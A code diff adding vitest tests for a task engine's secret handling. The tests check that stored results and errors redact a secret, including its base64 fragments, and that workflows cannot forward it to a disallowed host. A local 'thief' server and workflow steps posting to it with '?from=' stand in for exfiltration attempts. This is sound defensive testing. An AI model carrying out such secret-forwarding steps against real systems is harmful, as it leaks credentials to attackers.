@@ -1,0 +1,88 @@
+import { randomBytes } from 'node:crypto';
+import { createServer, type RequestListener, type Server } from 'node:http';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { type JsonValue, taskConfig } from '#contract';
+import { createTestDatabase, type TestDatabase } from '#database/testing';
+import { createEngine, type Engine, parseSecretsKey, setSecret } from '#engine';
+import { parseHttpAllow } from '../egress/http-allow.ts';
+import { type RunningWorker, startWorker } from '../index.ts';
+import { builtInTypes } from './index.ts';
+
+const value = 'hook-value-4711';
+/** Parts of the value, and of its base64. */
+const parts = ['hook-', '4711', 'aG9v', 'rLXZhbHVl'];
+const servers: Server[] = [];
+const stolen: string[] = [];
+let fresh: TestDatabase;
+let engine: Engine;
+let worker: RunningWorker;
+let friend = '';
+let thief = '';
+
+async function serve(listener: RequestListener): Promise<string> {
+  const server = createServer(listener);
+  servers.push(server);
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  return `127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
+}
+
+beforeAll(async () => {
+  fresh = await createTestDatabase();
+  engine = createEngine(fresh.database);
+  friend = await serve(({ headers, url }, response) => {
+    const echo = Buffer.from(`you sent ${headers.authorization}`).toString('base64');
+    const status = url === '/refuse' ? 400 : 200;
+    response.writeHead(status, { 'content-type': 'application/json' });
+    response.end(JSON.stringify({ echo: headers.authorization, padding: 'x'.repeat(245), again: value, base64: echo }));
+  });
+  thief = await serve(async (request, response) => {
+    let body = '';
+    for await (const chunk of request) body += chunk;
+    stolen.push(JSON.stringify([request.url, request.headers, body]));
+    response.end();
+  });
+  const secretsKey = parseSecretsKey(randomBytes(32).toString('base64'));
+  if (secretsKey === undefined) throw new Error('no key');
+  await setSecret(fresh.database, secretsKey, { name: 'HOOK', value, hosts: [friend] }, { name: 'ada' });
+  const definitions = builtInTypes(parseHttpAllow('127.0.0.1'));
+  worker = await startWorker({ databaseUrl: fresh.url, definitions, secretsKey });
+});
+afterAll(async () => {
+  await worker.stop();
+  await engine.close();
+  for (const server of servers) server.close();
+  await fresh.drop();
+});
+
+async function run(type: string, input: JsonValue) {
+  const config = taskConfig.parse({ type, input, retry: { maximumAttempts: 1 } });
+  const { task } = await engine.createTask(config, { name: 'ada', usesSecrets: true });
+  return engine.waitForTask(task.id, 10_000);
+}
+const headers = { authorization: { $secret: 'HOOK' } };
+
+test('a secret reaches its host, and an answer that repeats it is stored without it', async () => {
+  const task = await run('http.request', { url: `http://${friend}/`, headers });
+  expect(task).toMatchObject({ status: 'succeeded', output: { body: { echo: '***', again: '***' } } });
+  const refused = await run('http.request', { url: `http://${friend}/refuse`, headers });
+  expect(refused.error?.message).toMatch(/"again":"\*\*\*/);
+  for (const text of [JSON.stringify(task), JSON.stringify(refused)])
+    for (const part of parts) expect(text).not.toContain(part);
+});
+
+test('a workflow does not send it elsewhere, neither from its input nor from the answer that repeats it', async () => {
+  const steps = (last: JsonValue) => ({ steps: [{ name: 'ask', http: { url: `http://${friend}/`, headers } }, last] });
+  const where = { $text: ['http://', thief, '/?from='] };
+  const direct = await run('workflow', steps({ name: 'send', http: { url: where, headers } }));
+  expect(direct.status).toBe('failed');
+  expect(direct.error?.message).toBe(`there is no secret "HOOK" that may be sent to ${thief}`);
+  expect(stolen).toEqual([]);
+  const echoed = await run(
+    'workflow',
+    steps({ name: 'send', http: { method: 'POST', url: where, body: { $result: 'ask', at: '/body' } } }),
+  );
+  expect(echoed.status).toBe('succeeded');
+  expect(stolen).toEqual([expect.stringContaining('***')]);
+  for (const part of parts) expect(stolen.join()).not.toContain(part);
+});
